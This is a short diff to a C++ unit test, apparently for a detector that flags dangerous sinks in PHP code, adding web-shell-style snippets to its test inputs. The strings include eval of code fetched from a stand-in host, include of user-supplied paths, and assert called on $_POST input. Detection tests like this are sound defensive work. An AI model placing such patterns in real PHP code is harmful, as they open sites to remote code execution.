@@ -52,7 +52,9 @@ TEST(Triggers, MailAndRequestDrivenCodeOpenTheFlow) {
         "<?php include($_GET['p']);", "<?php $f = 'mail'; $f($a);",
         "<?php eval(file_get_contents('https://a.example/b'));",
         "<?php $url = \"http://a.example/b\"; copy($url, 'c.php');",
-        "<?php fwrite($f, base64_decode($x));"})
+        "<?php fwrite($f, base64_decode($x));",
+        "<?php call_user_func_array(assert, array($_POST['x']));",
+        "<?php array_intersect_ukey($a, $_POST, $f);", "<?php $a = $$b; $f($a['x']);"})
     EXPECT_TRUE(triggers_of(raw).sinks) << raw;
 }
 
